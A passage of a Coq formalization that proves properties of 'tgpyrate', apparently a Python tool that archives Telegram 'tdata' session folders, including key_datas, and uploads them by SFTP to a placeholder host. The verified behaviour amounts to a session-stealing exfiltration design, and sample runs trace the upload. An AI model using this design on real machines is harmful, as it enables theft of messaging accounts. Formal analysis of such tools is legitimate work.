    + rewrite (bind_Ok _ _ _ _ _ _ (add_entry_added w f tar g Hadd)).
      rewrite (IH Hfs). simpl. rewrite tar_extend_app. reflexivity.
Qed.

Lemma walk_survives_run (w : World) (loc : Path) (tar : TarFile)
    (g : Globals) :
  walk_survives w loc = true ->
  walk w loc tar g
  = (Ok (tar_extend tar (filter (added w) (fst (rglob w loc)))), g,
     walk_trace w loc).
Proof.
  unfold walk_survives, walk, walk_trace. intros Hs.
  apply andb_prop in Hs. destruct Hs as [Hadds Hend].
  destruct (snd (rglob w loc)); [discriminate|].
  unfold bind, emit, ret. rewrite (add_loop_survives w _ Hadds). simpl.
  rewrite app_nil_r. reflexivity.
Qed.

Lemma walks_survive (w : World) (locs : list Path) :
  forallb (walk_survives w) locs = true ->
  forall tar g,
    for_each locs (walk w) tar g
    = (Ok (tar_extend tar (filter (added w) (yielded w locs))), g,
       flat_map (walk_trace w) locs).
Proof.
  induction locs as [|loc locs IH]; intros Hs tar g; simpl.
  - rewrite tar_extend_nil. reflexivity.
  - simpl in Hs. apply andb_prop in Hs. destruct Hs as [Hloc Hlocs].
    rewrite (bind_Ok _ _ _ _ _ _ (walk_survives_run w loc tar g Hloc)).
    rewrite (IH Hlocs). simpl.
    unfold yielded. simpl. rewrite filter_app, tar_extend_app. reflexivity.
Qed.

(** whatever happens, the archive loop leaves the globals alone and calls
    nothing but [rglob] and [add] *)
Lemma add_loop_quiet (w : World) (fs : list Path) :
  forall tar g,
    final (for_each fs (add_entry w) tar g) = g
    /\ forallb archive_event (trace (for_each fs (add_entry w) tar g)) = true.
Proof.
  induction fs as [|f fs IH]; intros tar g; simpl.
  - split; reflexivity.
  - unfold bind. unfold add_entry at 1 3. run_m.
    destruct (tar_add w f) as [e|]; simpl.
    + destruct (isinstance_PermissionError e); simpl.
      * destruct (IH tar g) as [Hg Ht].
        destruct (for_each fs (add_entry w) tar g) as [[r g'] t].
        simpl in *. auto.
      * auto.
    + destruct (IH (tar_extend tar [f]) g) as [Hg Ht].
      destruct (for_each fs (add_entry w) (tar_extend tar [f]) g)
        as [[r g'] t].
      simpl in *. auto.
Qed.

Lemma walk_quiet (w : World) (loc : Path) (tar : TarFile) (g : Globals) :
  final (walk w loc tar g) = g
  /\ forallb archive_event (trace (walk w loc tar g)) = true.
Proof.
  unfold walk.
  destruct (add_loop_quiet w (fst (rglob w loc)) tar g) as [Hg Ht].
  run_m.
  destruct (for_each (fst (rglob w loc)) (add_entry w) tar g) as [[r g'] t].
  simpl in *. destruct r as [tar'|e]; simpl.
  - destruct (snd (rglob w loc)); simpl; rewrite app_nil_r; auto.
  - auto.
Qed.

Lemma archive_quiet (w : World) (locs : list Path) :
  forall tar g,
    final (for_each locs (walk w) tar g) = g
    /\ forallb archive_event (trace (for_each locs (walk w) tar g)) = true.
Proof.
  induction locs as [|loc locs IH]; intros tar g; simpl.
  - split; reflexivity.
  - destruct (walk_quiet w loc tar g) as [Hg Ht].
    unfold bind, final, trace in *.
    destruct (walk w loc tar g) as [[r g'] t]. simpl in *. subst g'.
    destruct r as [tar'|e]; simpl; [|auto].
    destruct (IH tar' g) as [Hg' Ht'].
    destruct (for_each locs (walk w) tar' g) as [[r' g''] t']. simpl in *.
    split; [exact Hg'|]. rewrite forallb_app, Ht, Ht'. reflexivity.
Qed.

(** ** The uploader *)

Section Upload.

Variable w : World.
Variables (host : string) (port : Z) (user pwd : string).
Variables (file : TarFile) (dest : string) (g : Globals).

Lemma send_file_unreachable (e : pyexc) :
  transport_new w host port = Some e ->
  isinstance_Exception e = true ->
  send_file w host port user pwd file dest g
  = (Raised (SystemExit 1), g, [Transport host port]).
Proof.
  intros H He. unfold send_file. run_m. rewrite H. simpl. rewrite He.
  reflexivity.
Qed.

Lemma send_file_interrupted (e : pyexc) :
  transport_new w host port = Some e ->
  isinstance_Exception e = false ->
  send_file w host port user pwd file dest g
  = (Raised e, g, [Transport host port]).
Proof.
  intros H He. unfold send_file. run_m. rewrite H. simpl. rewrite He.
  reflexivity.
Qed.

Lemma send_file_auth_raises (e : pyexc) :
  transport_new w host port = None ->
  transport_connect w user pwd = Some e ->
  send_file w host port user pwd file dest g
  = (Raised e, g, [Transport host port; Connect user pwd]).
Proof.
  intros H H'. unfold send_file. run_m. rewrite H, H'. reflexivity.
Qed.

Lemma send_file_session_raises (e : pyexc) :
  transport_new w host port = None ->
  transport_connect w user pwd = None ->
  sftp_from_transport w = Some e ->
  send_file w host port user pwd file dest g
  = (Raised e, g, [Transport host port; Connect user pwd; FromTransport]).
Proof.
  intros H H' H''. unfold send_file. run_m. rewrite H, H', H''. reflexivity.
Qed.

Lemma send_file_put_raises (e : pyexc) :
  transport_new w host port = None ->
  transport_connect w user pwd = None ->
  sftp_from_transport w = None ->
  sftp_putfo w file dest = Some e ->
  send_file w host port user pwd file dest g
  = (Raised e, g,
     [Transport host port; Connect user pwd; FromTransport;
      Putfo file dest]).
Proof.
  intros H H' H'' H3. unfold send_file. run_m. rewrite H, H', H'', H3.
  reflexivity.
Qed.

Lemma send_file_returns :
  transport_new w host port = None ->
  transport_connect w user pwd = None ->
  sftp_from_transport w = None ->
  sftp_putfo w file dest = None ->
  send_file w host port user pwd file dest g
  = (Ok tt, g, upload_calls host port user pwd file dest).
Proof.
  intros H H' H'' H3. unfold send_file. run_m. rewrite H, H', H'', H3.
  reflexivity.
Qed.

(** the calls of any upload are an initial part of [upload_calls], the
    whole of it exactly when [send_file] returns, and without the two
    closes otherwise *)
Lemma send_file_shape :
  final (send_file w host port user pwd file dest g) = g
  /\ ((outcome (send_file w host port user pwd file dest g) = Ok tt
       /\ trace (send_file w host port user pwd file dest g)
          = upload_calls host port user pwd file dest)
      \/ exists e n,
           outcome (send_file w host port user pwd file dest g) = Raised e
           /\ 1 <= n <= 4
           /\ trace (send_file w host port user pwd file dest g)
              = firstn n (upload_calls host port user pwd file dest)).
Proof.
  destruct (transport_new w host port) as [e|] eqn:H1.
  { destruct (isinstance_Exception e) eqn:He.
    - rewrite (send_file_unreachable e H1 He).
      split; [reflexivity|]. right. exists (SystemExit 1), 1.
      split; [reflexivity|]. split; [lia|reflexivity].
    - rewrite (send_file_interrupted e H1 He).
      split; [reflexivity|]. right. exists e, 1.
      split; [reflexivity|]. split; [lia|reflexivity]. }
  destruct (transport_connect w user pwd) as [e|] eqn:H2.
  { rewrite (send_file_auth_raises e H1 H2).
    split; [reflexivity|]. right. exists e, 2.
    split; [reflexivity|]. split; [lia|reflexivity]. }
  destruct (sftp_from_transport w) as [e|] eqn:H3.
  { rewrite (send_file_session_raises e H1 H2 H3).
    split; [reflexivity|]. right. exists e, 3.
    split; [reflexivity|]. split; [lia|reflexivity]. }
  destruct (sftp_putfo w file dest) as [e|] eqn:H4.
  { rewrite (send_file_put_raises e H1 H2 H3 H4).
    split; [reflexivity|]. right. exists e, 4.
    split; [reflexivity|]. split; [lia|reflexivity]. }
  rewrite (send_file_returns H1 H2 H3 H4).
  split; [reflexivity|]. left. split; reflexivity.
Qed.

End Upload.

(** ** The whole run *)

Lemma init_quiet (w : World) (cfg : Params) (g : Globals) :
  trace (init w cfg g) = [].
Proof.
  destruct g as [locs insts]. unfold init, find_portable.
  destruct (PORTABLE_DETECTION cfg).
  - unfold bind, get, put, trace. rewrite find_portable_quiet.
    destruct (outcome (for_each (pgrep w "Telegram.exe") find_portable_body
                                [] (mkGlobals locs insts))) as [found|e];
      simpl; [|reflexivity].
    rewrite init_loop. simpl.
    destruct (insts ++ filter (is_dir w) (locs ++ found)); reflexivity.
  - unfold bind, get, put, trace. simpl.
    rewrite init_loop. simpl.
    destruct (insts ++ filter (is_dir w) locs); reflexivity.
Qed.

Lemma tgpyrate_run (w : World) (cfg : Params) (g : Globals) :
  tgpyrate w cfg g
  = let tar0 := fresh_tar cfg in
    let head := [TemporaryFile;
                 TarOpen (tar_mode tar0) (tar_compresslevel tar0)] in
    match for_each (installations g) (walk w) tar0 g with
    | (Raised e, g1, ta) => (Raised e, g1, head ++ ta)
    | (Ok tar, g1, ta) =>
        match send_file w (SFTP_HOST cfg) (SFTP_PORT cfg) (SFTP_USER cfg)
                        (SFTP_PASS cfg) tar (SFTP_DEST cfg) g1 with
        | (Raised e, g2, tu) =>
            (Raised e, g2, head ++ ta ++ TarClose :: Seek 0 :: tu)
        | (Ok _, g2, tu) =>
            (Ok tt, g2, head ++ ta ++ TarClose :: Seek 0 :: tu ++ [TempClose])
        end
    end.
Proof.
  unfold tgpyrate, fresh_tar, tarfile_open.
  destruct (truthy (GZIP_COMP_LEVEL cfg));
    unfold bind, emit, ret, get; simpl;
    match goal with
    | |- context [for_each ?a1 ?a2 ?a3 ?a4] =>
        destruct (for_each a1 a2 a3 a4) as [[[tar|e] g1] ta]
    end; simpl; try reflexivity;
    match goal with
    | |- context [send_file ?a1 ?a2 ?a3 ?a4 ?a5 ?a6 ?a7 ?a8] =>
        destruct (send_file a1 a2 a3 a4 a5 a6 a7 a8) as [[[[]|e] g2] tu]
    end; simpl; reflexivity.
Qed.

Lemma run_unfold (w : World) (cfg : Params) (locs : list Path) :
  run w cfg locs
  = match init w cfg (mkGlobals locs []) with
    | (Raised e, g1, t1) => (Raised e, g1, t1)
    | (Ok _, g1, t1) =>
        (fst (tgpyrate w cfg g1), t1 ++ snd (tgpyrate w cfg g1))
    end.
Proof.
  unfold run, main, bind.
  destruct (init w cfg (mkGlobals locs [])) as [[[[]|e] g1] t1];
    [|reflexivity].
  destruct (tgpyrate w cfg g1) as [[r g2] t2]. reflexivity.
Qed.

Lemma tgpyrate_kind (w : World) (cfg : Params) (g : Globals) :
  stage_kind w cfg (tgpyrate w cfg g).
Proof.
  rewrite tgpyrate_run. simpl.
  destruct (archive_quiet w (installations g) (fresh_tar cfg) g) as [Hg Ha].
  destruct (for_each (installations g) (walk w) (fresh_tar cfg) g)
    as [[[tar|e] g1] ta]; unfold final, trace in Hg, Ha; simpl in Hg, Ha.
  - subst g1.
    destruct (send_file_shape w (SFTP_HOST cfg) (SFTP_PORT cfg)
                (SFTP_USER cfg) (SFTP_PASS cfg) tar (SFTP_DEST cfg) g)
      as [Hfin _].
    destruct (send_file w (SFTP_HOST cfg) (SFTP_PORT cfg) (SFTP_USER cfg)
                (SFTP_PASS cfg) tar (SFTP_DEST cfg) g) as [[r g2] tu] eqn:Hs.
    unfold final in Hfin. simpl in Hfin. subst g2.
    destruct r as [[]|e];
      apply reaches_upload with (ta := ta) (tu := tu) (tar := tar);
      unfold outcome, final, trace; simpl; auto.
    rewrite app_nil_r. reflexivity.
  - apply ends_in_archive with (e := e) (ta := ta); auto.
Qed.

(** a run ends in [init], having called nothing, or goes one of the three
    ways of [tgpyrate] *)
Lemma run_kind (w : World) (cfg : Params) (locs : list Path) :
  (exists e, outcome (run w cfg locs) = Raised e
             /\ trace (run w cfg locs) = [])
  \/ stage_kind w cfg (run w cfg locs).
Proof.
  rewrite run_unfold.
  pose proof (init_quiet w cfg (mkGlobals locs [])) as Hq.
  destruct (init w cfg (mkGlobals locs [])) as [[[[]|e] g1] t1];
    unfold trace in Hq; simpl in Hq; subst t1.
  - right. simpl. rewrite <- surjective_pairing. apply tgpyrate_kind.
  - left. exists e. split; reflexivity.
Qed.

Lemma firstn_In {A} (n : nat) (l : list A) (x : A) :
  In x (firstn n l) -> In x l.
Proof.
  revert l. induction n as [|n IH]; intros [|a l]; simpl; try tauto.
  intros [->|H]; auto.
Qed.

Lemma archive_event_In (ta : list event) (ev : event) :
  forallb archive_event ta = true -> In ev ta -> archive_event ev = true.
Proof.
  intros H Hin. rewrite forallb_forall in H. apply H. exact Hin.
Qed.

(** the calls [tgpyrate] can make *)
Lemma stage_events (w : World) (cfg : Params)
    (r : result unit * Globals * list event) :
  stage_kind w cfg r ->
  forall ev, In ev (trace r) ->
    ev = TemporaryFile
    \/ ev = TarOpen (tar_mode (fresh_tar cfg))
                    (tar_compresslevel (fresh_tar cfg))
    \/ archive_event ev = true
    \/ ev = TarClose
    \/ ev = Seek 0
    \/ (ev = TempClose /\ outcome r = Ok tt)
    \/ exists tar, In ev (upload_calls (SFTP_HOST cfg) (SFTP_PORT cfg)
                            (SFTP_USER cfg) (SFTP_PASS cfg) tar
                            (SFTP_DEST cfg)).
Proof.
  intros [e ta He Ha Ht|ta tu tar Ha Hs Ht] ev Hin;
    rewrite Ht in Hin; simpl in Hin.
  - destruct Hin as [<-|[<-|Hin]]; auto.
    right; right; left. eapply archive_event_In; eauto.
  - destruct Hin as [<-|[<-|Hin]]; auto.
    apply in_app_or in Hin. destruct Hin as [Hin|[<-|[<-|Hin]]]; auto 10.
    + right; right; left. eapply archive_event_In; eauto.
    + apply in_app_or in Hin. destruct Hin as [Hin|Hin].
      * do 6 right. exists tar.
        destruct (send_file_shape w (SFTP_HOST cfg) (SFTP_PORT cfg)
                    (SFTP_USER cfg) (SFTP_PASS cfg) tar (SFTP_DEST cfg)
                    (final r)) as [_ [[_ Htu]|[e [n [_ [_ Htu]]]]]];
          rewrite Hs in Htu; unfold trace in Htu; simpl in Htu; subst tu.
        -- exact Hin.
        -- eapply firstn_In; eauto.
      * destruct (outcome r) as [[]|e]; [|destruct Hin].
        destruct Hin as [<-|[]]. auto 10.
Qed.

Lemma tgpyrate_opens (w : World) (cfg : Params) (g : Globals) :
  In (TarOpen (tar_mode (fresh_tar cfg)) (tar_compresslevel (fresh_tar cfg)))
     (trace (tgpyrate w cfg g))
  /\ forall mode level,
       In (TarOpen mode level) (trace (tgpyrate w cfg g)) ->
       mode = tar_mode (fresh_tar cfg)
       /\ level = tar_compresslevel (fresh_tar cfg).
Proof.
  pose proof (tgpyrate_kind w cfg g) as K. split.
  - destruct K as [e ta He Ha Ht|ta tu tar Ha Hs Ht];
      rewrite Ht; right; left; reflexivity.
  - intros mode level Hin.
    destruct (stage_events w cfg _ K _ Hin)
      as [H|[H|[H|[H|[H|[[H _]|[tar H]]]]]]]; try discriminate.
    + inversion H. split; reflexivity.
    + simpl in H. repeat (destruct H as [H|H]; try discriminate). destruct H.
Qed.

(** C4. With [GZIP_COMP_LEVEL] [None] or 0 the archive is opened with mode
    ['w'] and no compression level; with a level from 1 to 9 it is opened
    with mode ['w:gz'] and that level.  Either way it is the only call to
    [tarfile.open] of the run of [tgpyrate]. *)
Theorem tar_mode_follows_level (w : World) (cfg : Params) (g : Globals) :
  (GZIP_COMP_LEVEL cfg = None \/ GZIP_COMP_LEVEL cfg = Some 0%Z ->
   In (TarOpen "w" None) (trace (tgpyrate w cfg g))
   /\ forall mode level,
        In (TarOpen mode level) (trace (tgpyrate w cfg g)) ->
        mode = "w" /\ level = None)
  /\ (forall n : Z,
        (1 <= n <= 9)%Z ->
        GZIP_COMP_LEVEL cfg = Some n ->
        In (TarOpen "w:gz" (Some n)) (trace (tgpyrate w cfg g))
        /\ forall mode level,
             In (TarOpen mode level) (trace (tgpyrate w cfg g)) ->
             mode = "w:gz" /\ level = Some n).
Proof.
  pose proof (tgpyrate_opens w cfg g) as H. unfold fresh_tar in H.
  split.
  - intros [Hl|Hl]; rewrite Hl in H; simpl in H; exact H.
  - intros n Hn Hl. rewrite Hl in H. simpl in H.
    destruct (n =? 0)%Z eqn:Hz; [apply Z.eqb_eq in Hz; lia|].
    simpl in H. exact H.
Qed.

(** ** The destination name *)

Lemma isoformat_ignores_microsecond (d : datetime) (us : nat) :
  isoformat_seconds (with_microsecond d us) = isoformat_seconds d.
Proof. reflexivity. Qed.

Lemma append_length (s1 s2 : string) :
  String.length (s1 ++ s2)%string = String.length s1 + String.length s2.
Proof.
  induction s1 as [|c s1 IH]; simpl; [reflexivity|]. rewrite IH. reflexivity.
Qed.

Lemma zfill2_length (n : nat) : String.length (zfill2 n) = 2.
Proof. reflexivity. Qed.

Lemma zfill4_length (n : nat) : String.length (zfill4 n) = 4.
Proof. reflexivity. Qed.

Lemma format_offset_length (off : Z) :
  (off mod 60 = 0)%Z -> String.length (format_offset off) = 6.
Proof.
  intros H. unfold format_offset.
  assert (Hss : Z.abs_nat off mod 60 = 0).
  { apply Nat2Z.inj. rewrite Nat2Z.inj_mod, Zabs2Nat.id_abs.
    change (Z.of_nat 60) with 60%Z. change (Z.of_nat 0) with 0%Z.
    destruct (Z.abs_spec off) as [[_ ->]|[_ ->]]; [exact H|].
    apply Z.mod_divide in H; [|lia]. apply Z.mod_divide; [lia|].
    apply Z.divide_opp_r. exact H. }
  rewrite Hss. change (Nat.eqb 0 0) with true. cbv iota.
  rewrite !append_length, !zfill2_length.
  destruct (off <? 0)%Z; reflexivity.
Qed.

Lemma isoformat_seconds_length (d : datetime) :
  (utcoffset d mod 60 = 0)%Z -> String.length (isoformat_seconds d) = 25.
Proof.
  intros H. unfold isoformat_seconds.
  rewrite !append_length, !zfill2_length, zfill4_length.
  rewrite (format_offset_length _ H). reflexivity.
Qed.

Example SFTP_DEST_sample :
  import_SFTP_DEST example_env
  = "Linux-5.10.0-8-amd64-x86_64-with-glibc2.31-2021-01-08T17:31:51-08:00.tar".
Proof. vm_compute. reflexivity. Qed.

Example run_sample :
  run (example_world [] (Some PermissionError) None None None None)
      (example_params false None) example_locations
  = (Ok tt,
     mkGlobals example_locations [tdata],
     [TemporaryFile; TarOpen "w" None; Rglob tdata;
      TarAdd (Path_join tdata ["tdata"]); TarAdd key_datas;
      TarAdd (Path_join tdata ["log.txt"]); TarClose; Seek 0;
      Transport "203.0.113.7" 22; Connect "user" "secret"; FromTransport;
      Putfo (mkTar "w" None
                   [Path_join tdata ["tdata"]; Path_join tdata ["log.txt"]])
            (import_SFTP_DEST example_env);
      SftpClose; TransportClose; TempClose]).
Proof. vm_compute. reflexivity. Qed.

(** C5. The destination name is the platform description, a dash, the
    local time in ISO format down to the second with its UTC offset (25
    characters for an offset of whole minutes, the microseconds playing no
    part), and [.tar].  It is fixed when the module is imported: it is the
    same whatever the compression level, and every [putfo] of a run is given
    that name. *)
Theorem destination_name_fixed (env : Env) (host : string) (port : Z)
    (user pwd : string) (level : option Z) (w : World) (locs : list Path) :
  let cfg := import_params env host port user pwd level in
  SFTP_DEST cfg
  = (platform_platform env ++ "-" ++ isoformat_seconds (now env)
       ++ ".tar")%string
  /\ (forall us,
        isoformat_seconds (with_microsecond (now env) us)
        = isoformat_seconds (now env))
  /\ ((utcoffset (now env) mod 60 = 0)%Z ->
      String.length (isoformat_seconds (now env)) = 25)
  /\ (forall level',
        SFTP_DEST (import_params env host port user pwd level')
        = SFTP_DEST cfg)
  /\ (forall file dest,
        In (Putfo file dest) (trace (run w cfg locs)) ->
        dest = SFTP_DEST cfg).
Proof.
  intros cfg. split; [reflexivity|].
  split; [intros us; apply isoformat_ignores_microsecond|].
  split; [apply isoformat_seconds_length|].
  split; [reflexivity|].
  intros file dest Hin.
  destruct (run_kind w cfg locs) as [[e [_ Ht]]|K].
  - rewrite Ht in Hin. destruct Hin.
  - destruct (stage_events w cfg _ K _ Hin)
      as [H|[H|[H|[H|[H|[[H _]|[tar H]]]]]]]; try discriminate.
    simpl in H.
    repeat (destruct H as [H|H]; try discriminate); [|destruct H].
    inversion H. reflexivity.
Qed.

Lemma destination_name_fixed_witness :
  String.length (isoformat_seconds (now example_env)) = 25
  /\ "Linux-5.10.0-8-amd64-x86_64-with-glibc2.31-2021-01-08T17:31:51-08:00.tar"
     = SFTP_DEST (import_params example_env "203.0.113.7" 22 "user" "secret"
                                (Some 9%Z)).
Proof.
  destruct (destination_name_fixed example_env "203.0.113.7" 22 "user"
              "secret" (Some 9%Z)
              (example_world [] None None None None None) example_locations)
    as [_ [_ [Hlen [_ Hput]]]].
  split.
  - apply Hlen. reflexivity.
  - apply (Hput (mkTar "w:gz" (Some 9%Z) example_entries)).
    vm_compute. tauto.
Defined.

(** C6. When [paramiko.Transport] raises an [Exception], [send_file] ends
    with [exit(1)] having made no other call, so [connect] is not called;
    when the transport is made and [connect] raises, that exception leaves
    [send_file] as it is.  A run that gets as far as these calls ends the
    same way. *)
Theorem transport_failure_exits_auth_failure_propagates (w : World)
    (cfg : Params) (locs : list Path) (file : TarFile) (g : Globals) :
  let s := send_file w (SFTP_HOST cfg) (SFTP_PORT cfg) (SFTP_USER cfg)
                     (SFTP_PASS cfg) file (SFTP_DEST cfg) g in
  let r := run w cfg locs in
  (forall e,
     transport_new w (SFTP_HOST cfg) (SFTP_PORT cfg) = Some e ->
     isinstance_Exception e = true ->
     (outcome s = Raised (SystemExit 1)
      /\ exit_status (outcome s) = 1%Z
      /\ trace s = [Transport (SFTP_HOST cfg) (SFTP_PORT cfg)])
     /\ (In (Transport (SFTP_HOST cfg) (SFTP_PORT cfg)) (trace r) ->
         outcome r = Raised (SystemExit 1)
         /\ exit_status (outcome r) = 1%Z
         /\ forall user pwd, ~ In (Connect user pwd) (trace r)))
  /\ (forall e,
        transport_new w (SFTP_HOST cfg) (SFTP_PORT cfg) = None ->
        transport_connect w (SFTP_USER cfg) (SFTP_PASS cfg) = Some e ->
        (outcome s = Raised e
         /\ trace s = [Transport (SFTP_HOST cfg) (SFTP_PORT cfg);
                       Connect (SFTP_USER cfg) (SFTP_PASS cfg)])
        /\ (In (Connect (SFTP_USER cfg) (SFTP_PASS cfg)) (trace r) ->
            outcome r = Raised e
            /\ ~ In FromTransport (trace r)
            /\ ~ In TempClose (trace r))).
Proof.
  intros s r. subst s r. split.
  - intros e Hnew He. split.
    { rewrite (send_file_unreachable w _ _ _ _ _ _ _ e Hnew He).
      repeat split. }
    intros Hin.
    destruct (run_kind w cfg locs) as [[e0 [_ Ht]]|K].
    { rewrite Ht in Hin. destruct Hin. }
    destruct K as [e0 ta He0 Ha Ht|ta tu tar Ha Hs Ht].
    { rewrite Ht in Hin. simpl in Hin.
      destruct Hin as [Hin|[Hin|Hin]]; try discriminate.
      apply (archive_event_In _ _ Ha) in Hin. discriminate. }
    rewrite (send_file_unreachable w _ _ _ _ _ _ _ e Hnew He) in Hs.
    inversion Hs as [[Ho Htu]]. rewrite <- Ho in *. subst tu.
    split; [reflexivity|]. split; [reflexivity|].
    intros user pwd Hc. rewrite Ht in Hc. simpl in Hc.
    destruct Hc as [Hc|[Hc|Hc]]; try discriminate.
    apply in_app_or in Hc. destruct Hc as [Hc|Hc].
    + apply (archive_event_In _ _ Ha) in Hc. discriminate.
    + simpl in Hc. repeat (destruct Hc as [Hc|Hc]; try discriminate).
      destruct Hc.
  - intros e Hnew Hc. split.
    { rewrite (send_file_auth_raises w _ _ _ _ _ _ _ e Hnew Hc).
      split; reflexivity. }
    intros Hin.
    destruct (run_kind w cfg locs) as [[e0 [_ Ht]]|K].
    { rewrite Ht in Hin. destruct Hin. }
    destruct K as [e0 ta He0 Ha Ht|ta tu tar Ha Hs Ht].
    { rewrite Ht in Hin. simpl in Hin.
      destruct Hin as [Hin|[Hin|Hin]]; try discriminate.
      apply (archive_event_In _ _ Ha) in Hin. discriminate. }
    rewrite (send_file_auth_raises w _ _ _ _ _ _ _ e Hnew Hc) in Hs.
    inversion Hs as [[Ho Htu]]. rewrite <- Ho in *. subst tu.
    split; [reflexivity|].
    split; intros Hx; rewrite Ht in Hx; simpl in Hx;
      (destruct Hx as [Hx|[Hx|Hx]]; try discriminate;
       apply in_app_or in Hx; destruct Hx as [Hx|Hx];
       [apply (archive_event_In _ _ Ha) in Hx; discriminate|];
       simpl in Hx; repeat (destruct Hx as [Hx|Hx]; try discriminate);
       destruct Hx).
Qed.

Lemma transport_failure_exits_auth_failure_propagates_witness :
  (outcome (run (example_world [] None None
                               (Some (OtherException "OSError")) None None)
                (example_params false None) example_locations)
   = Raised (SystemExit 1)
   /\ forall user pwd,
        ~ In (Connect user pwd)
             (trace (run (example_world [] None None
                            (Some (OtherException "OSError")) None None)
                         (example_params false None) example_locations)))
  /\ outcome (run (example_world [] None None None
                     (Some (OtherException "AuthenticationException")) None)
                  (example_params false None) example_locations)
     = Raised (OtherException "AuthenticationException").
Proof.
  split.
  - destruct (transport_failure_exits_auth_failure_propagates
                (example_world [] None None
                               (Some (OtherException "OSError")) None None)
                (example_params false None) example_locations
                (mkTar "w" None []) (mkGlobals [] []))
      as [Hnew _].
    destruct (Hnew (OtherException "OSError") eq_refl eq_refl) as [_ Hrun].
    assert (Hin : In (Transport "203.0.113.7" 22)
                     (trace (run (example_world [] None None
                                    (Some (OtherException "OSError"))
                                    None None)
                                 (example_params false None)
                                 example_locations))).
    { vm_compute. tauto. }
    destruct (Hrun Hin) as [Ho [_ Hc]]. split; [exact Ho|exact Hc].
  - destruct (transport_failure_exits_auth_failure_propagates
                (example_world [] None None None
                   (Some (OtherException "AuthenticationException")) None)
                (example_params false None) example_locations
                (mkTar "w" None []) (mkGlobals [] []))
      as [_ Hauth].
    destruct (Hauth (OtherException "AuthenticationException")
                    eq_refl eq_refl) as [_ Hrun].
    apply Hrun. vm_compute. tauto.
Defined.

(** C7, as stated, fails: on the sample machine with a [putfo] that raises,
    the upload write is made, its exception leaves [send_file], and neither
    the session nor the transport is closed. *)
Lemma closes_regardless_of_put_counterexample :
  let s := send_file (example_world [] None None None None
                                    (Some (OtherException "OSError")))
                     "203.0.113.7" 22 "user" "secret"
                     (mkTar "w" None [key_datas]) "sample.tar"
                     (mkGlobals [] []) in
  In (Putfo (mkTar "w" None [key_datas]) "sample.tar") (trace s)
  /\ outcome s = Raised (OtherException "OSError")
  /\ ~ In SftpClose (trace s)
  /\ ~ In TransportClose (trace s).
Proof.
  vm_compute. repeat split.
  - tauto.
  - intros H. repeat (destruct H as [H|H]; try discriminate). exact H.
  - intros H. repeat (destruct H as [H|H]; try discriminate). exact H.
Qed.

(** C7, amended.  Once [send_file] has called [putfo]: if [putfo] returns,
    [send_file] closes the session and then the transport, its last two
    calls, and returns; if [putfo] raises, the exception leaves [send_file]
    and neither close is called. *)
Theorem closes_follow_a_returning_put (w : World) (host : string) (port : Z)
    (user pwd : string) (file : TarFile) (dest : string) (g : Globals) :
  let s := send_file w host port user pwd file dest g in
  In (Putfo file dest) (trace s) ->
  (sftp_putfo w file dest = None ->
   outcome s = Ok tt
   /\ trace s = [Transport host port; Connect user pwd; FromTransport;
                 Putfo file dest; SftpClose; TransportClose])
  /\ (forall e,
        sftp_putfo w file dest = Some e ->
        outcome s = Raised e
        /\ trace s = [Transport host port; Connect user pwd; FromTransport;
                      Putfo file dest]
        /\ ~ In SftpClose (trace s)
        /\ ~ In TransportClose (trace s)).
Proof.
  intros s Hin. subst s.
  destruct (transport_new w host port) as [e1|] eqn:H1.
  { exfalso. destruct (isinstance_Exception e1) eqn:He1;
      [rewrite (send_file_unreachable w _ _ _ _ _ _ _ e1 H1 He1) in Hin
      |rewrite (send_file_interrupted w _ _ _ _ _ _ _ e1 H1 He1) in Hin];
      simpl in Hin; repeat (destruct Hin as [Hin|Hin]; try discriminate);
      exact Hin. }
  destruct (transport_connect w user pwd) as [e2|] eqn:H2.
  { exfalso. rewrite (send_file_auth_raises w _ _ _ _ _ _ _ e2 H1 H2) in Hin.
    simpl in Hin. repeat (destruct Hin as [Hin|Hin]; try discriminate).
    exact Hin. }
  destruct (sftp_from_transport w) as [e3|] eqn:H3.
  { exfalso.
    rewrite (send_file_session_raises w _ _ _ _ _ _ _ e3 H1 H2 H3) in Hin.
    simpl in Hin. repeat (destruct Hin as [Hin|Hin]; try discriminate).
    exact Hin. }
  split.
  - intros H4. rewrite (send_file_returns w _ _ _ _ _ _ _ H1 H2 H3 H4).
    split; reflexivity.
  - intros e H4. rewrite (send_file_put_raises w _ _ _ _ _ _ _ e H1 H2 H3 H4).
    unfold outcome, trace. simpl.
    repeat split;
      intros H; repeat (destruct H as [H|H]; try discriminate); exact H.
Qed.

Lemma closes_follow_a_returning_put_witness :
  trace (send_file (example_world [] None None None None None)
                   "203.0.113.7" 22 "user" "secret"
                   (mkTar "w" None [key_datas]) "sample.tar"
                   (mkGlobals [] []))
  = [Transport "203.0.113.7" 22; Connect "user" "secret"; FromTransport;
     Putfo (mkTar "w" None [key_datas]) "sample.tar";
     SftpClose; TransportClose]
  /\ outcome (send_file (example_world [] None None None None
                                       (Some (OtherException "OSError")))
                        "203.0.113.7" 22 "user" "secret"
                        (mkTar "w" None [key_datas]) "sample.tar"
                        (mkGlobals [] []))
     = Raised (OtherException "OSError").
Proof.
  split.
  - refine (proj2 (proj1 (closes_follow_a_returning_put
                            (example_world [] None None None None None)
                            "203.0.113.7" 22 "user" "secret"
                            (mkTar "w" None [key_datas]) "sample.tar"
                            (mkGlobals [] []) _) eq_refl)).
    vm_compute. tauto.
  - refine (proj1 (proj2 (closes_follow_a_returning_put
                            (example_world [] None None None None
                               (Some (OtherException "OSError")))
                            "203.0.113.7" 22 "user" "secret"
                            (mkTar "w" None [key_datas]) "sample.tar"
                            (mkGlobals [] []) _)
                         (OtherException "OSError") eq_refl)).
    vm_compute. tauto.
Defined.

(** C8, as stated, fails: on the sample machine with an unreachable server
    the temporary file is created, the run ends in the uploader with
    [exit(1)], and the temporary file is not closed. *)
Lemma temp_file_always_closed_counterexample :
  let r := run (example_world [] None None
                              (Some (OtherException "OSError")) None None)
               (example_params false None) example_locations in
  In TemporaryFile (trace r)
  /\ In (Transport "203.0.113.7" 22) (trace r)
  /\ outcome r = Raised (SystemExit 1)
  /\ ~ In TempClose (trace r).
Proof.
  vm_compute. repeat split; try tauto.
  intros H. repeat (destruct H as [H|H]; try discriminate). exact H.
Qed.

(** C8, amended.  The temporary file is closed on exactly the runs that
    return; on those the close is the last call of the run, made once. *)
Theorem temp_file_closed_iff_run_returns (w : World) (cfg : Params)
    (locs : list Path) :
  let r := run w cfg locs in
  (In TempClose (trace r) <-> outcome r = Ok tt)
  /\ (outcome r = Ok tt ->
      exists pre, trace r = TemporaryFile :: pre ++ [TempClose]
